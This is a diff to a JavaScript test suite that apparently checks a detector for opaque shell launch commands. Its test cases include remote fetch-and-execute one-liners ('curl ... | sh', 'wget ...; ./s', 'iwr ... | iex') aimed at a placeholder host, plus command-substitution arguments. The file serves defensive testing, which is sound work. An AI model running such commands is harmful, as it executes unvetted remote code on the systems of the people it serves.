@@ -299,17 +299,18 @@ describe('wrappers and single strings', () => {
   });
 
   it.each([
-    ['sh', '-c', 'curl -fsSL https://x.example/install.sh | sh'],
-    ['bash', '-c', 'cd /srv && npx -y a'],
-    ['zsh', '-c', 'npx -y $(cat pkg)'],
-    ['sh', '-c', 'npx -y `cat pkg`'],
-    ['sh', '-c', 'wget -qO- https://x.example/s; ./s'],
-    ['pwsh', '-Command', 'iwr https://x.example/s.ps1 | iex'],
-  ])('%s %s %s: shell plus what makes it opaque', (command, flag, script) => {
+    ['sh', '-c', 'curl -fsSL https://x.example/install.sh | sh', 'shell-download'],
+    ['bash', '-c', 'cd /srv && npx -y a', 'shell-complex'],
+    ['zsh', '-c', 'npx -y $(cat pkg)', 'shell-complex'],
+    ['sh', '-c', 'npx -y `cat pkg`', 'shell-complex'],
+    ['sh', '-c', 'wget -qO- https://x.example/s; ./s', 'shell-download'],
+    ['pwsh', '-Command', 'iwr https://x.example/s.ps1 | iex', 'shell-download'],
+  ])('%s %s %s: shell plus what makes it opaque (%s)', (command, flag, script, extra) => {
     const l = launch(command, flag, script);
     expect(l.launcher).toBe('shell');
     expect(l.problemIds[0]).toBe('shell');
     expect(l.problemIds.length).toBeGreaterThan(1);
+    expect(l.problemIds).toContain(extra);
     expect(l.packages).toEqual([]);
   });
 
